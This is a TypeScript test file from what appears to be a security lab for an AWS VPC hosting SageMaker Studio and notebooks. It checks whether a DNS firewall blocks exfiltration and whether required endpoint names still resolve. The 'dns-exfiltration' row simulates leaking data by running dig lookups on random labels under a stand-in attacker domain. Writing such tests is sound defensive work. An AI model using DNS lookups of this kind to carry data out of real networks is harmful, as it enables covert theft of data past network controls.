import { randomBytes } from 'node:crypto';
import { dnsFirewallMode } from '../../../config/dns-protection';
import { attackerDomain } from '../../dns/internet';
import type { Lab } from '../../system/lab';
import type { Row } from '../row';

const section = 'Names that notebooks can look up';

/** The status of an answer, and whether it has a record, at each host of the VPC that asks. */
function lookUp(lab: Lab, name: string, type = 'A'): { status: string; hasRecord: boolean }[] {
  return lab.site.zones.map(({ functions }) => {
    const answer = functions.run('sh', ['-c', `dig +tries=1 +time=8 ${name} ${type} || true`]);
    const status = /status: (\w+)/.exec(answer)?.[1] ?? 'no answer';
    return { status, hasRecord: /ANSWER: [1-9]/.test(answer) };
  });
}

/** Names that apps of Studio and notebooks look up, by what AWS's clients do. */
function neededNames(lab: Lab): string[] {
  const { region } = lab.environment;
  const { outputs } = lab;
  const endpoints = lab
    .network()
    .endpoints.flatMap(({ privateNames, publicNames }) => [...privateNames, ...publicNames])
    .map((name) => name.replace(/^\*\./, 'jupyterlab.default.'));
  return [
    ...endpoints,
    new URL(outputs.apiUrl).hostname,
    new URL(outputs.apiUrlByEndpointAlias).hostname,
    `s3.${region}.amazonaws.com`,
    `data-of-alice.s3.${region}.amazonaws.com`,
    `data-of-alice.s3.dualstack.${region}.amazonaws.com`,
    `fs-0123456789abcdef0.efs.${region}.amazonaws.com`,
  ];
}

/** The resolver of the VPC answers public names, and no security group applies to it. */
export const nameRows: readonly Row[] = [
  {
    id: 'dns-exfiltration',
    section,
    what: "code in the VPC looks up names below an attacker's domain (A, AAAA, TXT), with data in them",
    expected: ({ network }) =>
      dnsFirewallMode(network) === 'block'
        ? "NXDOMAIN; the attacker's name server is asked nothing"
        : "NOERROR; the attacker's name server is asked for the data",
    run(lab) {
      const { internet } = lab.nameServers;
      internet.takeNames();
      // a new name each time: no cache has it
      const name = `${randomBytes(16).toString('hex')}.data.${attackerDomain}`;
      const statuses = ['A', 'AAAA', 'TXT'].flatMap((type) =>
        lookUp(lab, name, type).map(({ status }) => status),
      );
      const seen = internet.takeNames().some((asked) => asked.endsWith(attackerDomain));
      return Promise.resolve(
        `${[...new Set(statuses)].join(', ')}; the attacker's name server is asked ${seen ? 'for the data' : 'nothing'}`,
      );
    },
  },
  {
    id: 'names-needed',
    section,
    what: "what Studio and notebooks need in the VPC: every endpoint's names, Studio's apps, the API and its alias, S3 by path and by bucket, the home file system",
    expected: 'all have addresses',
    run(lab) {
      const missing = neededNames(lab).filter(
        (name) => !lookUp(lab, name).every(({ hasRecord }) => hasRecord),
      );
      return Promise.resolve(
        missing.length === 0 ? 'all have addresses' : `no address: ${missing.join(', ')}`,
      );
    },
  },
];
